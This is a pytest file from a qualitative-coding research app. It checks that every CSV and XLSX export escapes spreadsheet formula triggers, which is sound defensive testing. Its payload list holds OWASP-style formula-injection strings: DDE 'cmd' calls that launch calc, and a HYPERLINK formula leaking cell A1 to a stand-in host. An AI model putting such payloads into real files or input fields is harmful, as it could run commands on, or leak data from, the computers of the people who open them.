"""One formula-escaping rule for every CSV and XLSX file the app writes, on one payload list.

Each export gets the payloads wherever a user's text lands in it (intervention titles, property
names and values, code names and definitions, memos, code paths) and must write every text cell
(headers included) through `formula_escape`: no CSV cell and no XLSX cell starts with a formula
trigger, no XLSX cell is a formula, and each payload is there, escaped, so it reads back.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest

from coding import segments as seg
from coding.agreement import exports as agreement_exports
from coding.agreement.assignments import assignment_create
from coding.agreement.runs import clean_params, compute_for_study
from coding.analysis.report import report_export, with_source
from coding.codebook import files as codebook_files
from coding.codebook import services as codebook
from coding.codebook.services import codebook_tree
from coding.models import Code
from coding.segment_table import segments_table
from interventions import metadata
from interventions import services as corpus
from interventions.models import Intervention
from tests.conftest import Cast
from veerkracht.lib.spreadsheets import FORMULA_TRIGGERS, formula_escape

# OWASP's CSV-injection examples and the triggers one by one; the last one starts with the
# escape character itself, which must be escaped too so that reading back is exact.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://example.invalid/?leak="&A1;"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "'=al ontsnapt",
]
TEXT = "Ouders oefenen thuis. Het netwerk steunt. De coach helpt."


@pytest.fixture
def poisoned(cast: Cast) -> Cast:
    """Every payload in every place a user's text reaches an export."""
    study = cast.study
    words = ["Ouders", "netwerk", "coach"]
    codes = []
    for n, payload in enumerate(PAYLOADS):
        definition = corpus.attribute_define(study=study, name=f"{payload} {n}")
        intervention = Intervention.objects.create(study=study, title=f"{payload} #{n}", text=TEXT)
        corpus.attribute_values_set(intervention=intervention, values=[(definition, payload)])
        code = codebook.code_create(
            study=study,
            actor=cast.owner,
            name=f"{payload} code {n}",
            definition=payload,
        )
        codes.append(code)
        for coder in (cast.coder_a, cast.coder_b):
            assignment_create(
                study=study,
                actor=cast.owner,
                coder=coder,
                interventions=[intervention],
                method="all",
            )
            word = words[n % len(words)]
            start = TEXT.index(word)
            made = seg.segment_create(
                intervention=intervention,
                coder=coder,
                code=code,
                start=start,
                end=start + len(word),
                quote=word,
            )
            seg.segment_set_memo(segment=made, actor=coder, memo=payload)
    return cast


def csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def agreement_result(cast: Cast) -> dict[str, Any]:
    params = clean_params(study=cast.study, coders=["bob", "carol"], unit="intervention")
    return compute_for_study(cast.study, params)[0]


def report_of_every_code(cast: Cast) -> list[Any]:
    """The code report's rows of every code, as if asked for one code after the other."""
    return [
        row
        for code in Code.objects.filter(study=cast.study).order_by("pk")
        for row in seg.code_report(study=cast.study, viewer=cast.owner, code=code)
    ]


def code_report(cast: Cast, fmt: str) -> bytes:
    return seg.code_report_export(report_of_every_code(cast), fmt)


def analysis_report(cast: Cast, fmt: str) -> bytes:
    return report_export(with_source(report_of_every_code(cast)), fmt)


def segments_file(cast: Cast, fmt: str) -> bytes:
    headers, rows = segments_table(study=cast.study)
    return seg.table_export(headers, rows, fmt, title="Segments")


# (name, writer(cast, fmt), CSV delimiter): every CSV and XLSX export the app has.
EXPORTS: list[tuple[str, Callable[[Cast, str], bytes], str]] = [
    ("interventions", lambda c, f: metadata.export_table(study=c.study, fmt=f), ";"),
    ("codebook", lambda c, f: getattr(codebook_files, f"to_{f}")(codebook_tree(c.study)), ","),
    ("code report", code_report, ","),
    ("analysis report", analysis_report, ","),
    ("segments", segments_file, ","),
    ("agreement", lambda c, f: agreement_exports.export_table(agreement_result(c), f), ","),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("name", "writer", "delimiter"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_escapes_every_text_cell_by_the_one_rule(
    poisoned: Cast, name: str, writer: Callable[[Cast, str], bytes], delimiter: str, fmt: str
) -> None:
    data = writer(poisoned, fmt)
    cells = csv_cells(data, delimiter) if fmt == "csv" else xlsx_cells(data)
    running = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert running == [], f"{name} {fmt}: cells a spreadsheet would run"
    joined = "\n".join(cells)
    for payload in PAYLOADS:
        assert formula_escape(payload) in joined, f"{name} {fmt}: {payload!r} is missing"


def test_the_intervention_export_escapes_the_property_names_in_its_header(
    poisoned: Cast,
) -> None:
    first_line = metadata.export_table(study=poisoned.study, fmt="csv").split(b"\r\n")[0]
    assert "'=cmd|' /C calc'!A0 0" in csv_cells(first_line, ";")
    book = openpyxl.load_workbook(
        io.BytesIO(metadata.export_table(study=poisoned.study, fmt="xlsx"))
    )
    first_row = list(next(book.active.iter_rows()))  # type: ignore[union-attr]
    assert all(cell.data_type == "s" for cell in first_row)
    assert "'=cmd|' /C calc'!A0 0" in [cell.value for cell in first_row]


def test_an_escaped_export_imports_back_as_the_same_text(poisoned: Cast) -> None:
    for fmt in ("csv", "xlsx"):
        data = metadata.export_table(study=poisoned.study, fmt=fmt)
        table = metadata.read_table(f"export.{fmt}", data)
        assert f"{PAYLOADS[0]} 0" in table["headers"]
        nodes = codebook_files.from_table(
            f"codebook.{fmt}", getattr(codebook_files, f"to_{fmt}")(codebook_tree(poisoned.study))
        )
        names = {node.name for node in nodes}
        assert PAYLOADS[0] + " code 0" in names
